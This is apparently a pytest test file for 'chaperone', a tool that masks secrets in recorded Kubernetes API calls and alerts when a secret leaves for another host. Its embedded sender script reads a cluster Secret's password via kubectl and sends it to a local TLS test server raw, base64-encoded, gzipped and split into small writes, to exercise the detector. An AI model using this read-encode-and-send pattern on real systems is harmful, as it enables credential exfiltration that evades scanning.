"""`chaperone run --mask`, and secrets that leave to another host, as a user does both: on the real kernel, with real TLS."""

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.apiserver import ApiServer, apiserver
from support.collectors import leave
from support.kernel import skip_without_kernel
from support.leaks import leaks_in_store
from support.tls_server import TlsServer

__all__ = ["apiserver"]
pytestmark = pytest.mark.kernel
CHAPERONE = Path(sys.executable).with_name("chaperone")
PASSWORD = "s3cr3t-Pa55w0rd"  # of the API server's Secret db-cred
OURS = "acme_7f3a9c01b2d4e6f8a1b2"
MASKING = """apiVersion: chaperone.dev/v1
kind: Masking
metadata: {name: ours}
patterns:
- name: acme-key
  match: 'acme_([a-z0-9]{20,})'
"""
POLICY = """apiVersion: chaperone.dev/v1
kind: Policy
metadata: {name: leaks}
egress: {scan: "on"}
rules:
- {name: secret-left, when: secret.left, do: alert, message: "{secret.name} to {secret.host} in {secret.place}"}
"""
SENDER = f"""
import base64, gzip, json, socket, ssl, subprocess, sys
host, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3]
got = json.loads(subprocess.run(["kubectl", "get", "secret", "db-cred", "-o", "json"], capture_output=True, check=True).stdout)
password = base64.b64decode(got["data"]["password"])
assert password == {PASSWORD.encode()!r}
context = ssl.create_default_context(cafile=ca)

def send(*parts):
    # each part is one write of a connection of its own
    with context.wrap_socket(socket.create_connection((host, port)), server_hostname=host) as connection:
        for part in parts:
            connection.sendall(part)
        while connection.recv(4096):
            pass

def post(path, body):
    head = b"POST " + path + b" HTTP/1.1\\r\\nHost: upload.test\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body)
    return head + body

def cut(data, size):
    return [data[at:at + size] for at in range(0, len(data), size)]

send(post(b"/raw", b"it is " + password))
send(post(b"/base64", base64.b64encode(b"x" + password + b"yy")))
send(*cut(post(b"/gzip", gzip.compress(b"line\\n" * 50 + password)), 11))
send(*cut(b"\\0\\1binary" + password + b"\\0" * 8, 5))
send(post(b"/clean", b"nothing of it"))
"""


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Path]:
    skip_without_kernel()
    yield tmp_path / "store"
    leave(tmp_path / "store")


class Swallowing(TlsServer):
    """Reads one request, or what comes until a short silence, and answers nothing but an end."""

    def _serve(self, connection: Any, conversation: Any) -> None:
        with self.context.wrap_socket(connection, server_side=True) as speaking:
            speaking.settimeout(1)
            try:
                while data := speaking.recv(65536):
                    conversation.out += data
            except (TimeoutError, OSError):
                pass
        conversation.done.set()


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Swallowing]:
    server = Swallowing(tmp_path)
    yield server
    server.close()


def chaperone(*arguments: str | Path, **more: Any) -> "subprocess.CompletedProcess[str]":
    return subprocess.run([CHAPERONE, *arguments], capture_output=True, text=True, timeout=120, check=False, **more)


def test_a_secret_that_was_read_and_sent_elsewhere_is_told_in_every_form(
    store: Path, apiserver: ApiServer, elsewhere: Swallowing, tmp_path: Path
) -> None:
    (tmp_path / "policy.yaml").write_text(POLICY)
    (tmp_path / "send.py").write_text(SENDER)
    work = [sys.executable, tmp_path / "send.py", "127.0.0.1", str(elsewhere.port), elsewhere.certificate]
    environment = {**os.environ, "KUBECONFIG": str(apiserver.kubeconfig)}
    done = chaperone("run", "--store", store, "--policy", tmp_path / "policy.yaml", "--", *work, env=environment)
    assert done.returncode == 0, done.stderr
    assert len(elsewhere.conversations) == 5
    verdicts = json.loads(chaperone("verdicts", "list", "--store", store, "-o", "json").stdout)
    said = sorted(verdict["message"] for verdict in verdicts if verdict["rule"] == "secret-left")
    known = "default/db-cred:password"
    assert said == [
        f"{known} to 127.0.0.1:{elsewhere.port} in connection",
        *[f"{known} to upload.test in body"] * 3,
    ]
    [read] = json.loads(chaperone("calls", "list", "--resource", "secrets", "--store", store, "-o", "json").stdout)
    shown = chaperone("replay", "latest", "--no-wait", "--store", store).stdout
    lines = [line for line in shown.splitlines() if "left to" in line]
    assert len(lines) == 4, shown
    assert all(f"secret {known} (read in call {read['id'][:8]} at 2" in line and " in connection " in line for line in lines)
    leave(store)
    assert leaks_in_store(store, PASSWORD.encode()) == []


def test_a_file_of_ones_own_masks_what_is_recorded_and_the_store_remembers_it(store: Path, apiserver: ApiServer, tmp_path: Path) -> None:
    (tmp_path / "ours.yaml").write_text(MASKING)
    environment = {**os.environ, "KUBECONFIG": str(apiserver.kubeconfig)}
    work = f"kubectl create configmap colours --from-literal=red={OURS} && kubectl get configmap colours -o json"
    done = chaperone("run", "--store", store, "--mask", tmp_path / "ours.yaml", "--", "sh", "-c", work, env=environment)
    assert done.returncode == 0 and OURS in done.stdout, "what the command sees is its own"
    assert (store / "masking.yaml").read_text() == MASKING, "every collector of this store masks by it from now on"
    calls = json.loads(chaperone("calls", "list", "--store", store, "-o", "json").stdout)
    colours = [call for call in calls if call["resource"] == "configmaps"]
    assert {call["verb"] for call in colours} == {"create", "get"}
    whole = [json.loads(chaperone("calls", "show", call["id"], "--store", store, "-o", "json").stdout) for call in colours]
    bodies = [body["data"] for call in whole for body in (call["requestBody"], call["responseBody"]) if body]
    assert len(bodies) == 3 and all('"red":"acme_~masked-20-' in body.replace(" ", "") for body in bodies), bodies
    leave(store)
    assert leaks_in_store(store, OURS.encode()) == []


def test_a_wrong_file_is_said_and_the_command_does_not_run(store: Path, tmp_path: Path) -> None:
    (tmp_path / "ours.yaml").write_text(MASKING.replace("match: '", "match: '("))
    done = chaperone("run", "--store", store, "--mask", tmp_path / "ours.yaml", "--", "echo", "ran")
    assert (done.returncode, done.stdout) == (125, "")
    assert f"{tmp_path}/ours.yaml:6: patterns[0].match: " in done.stderr
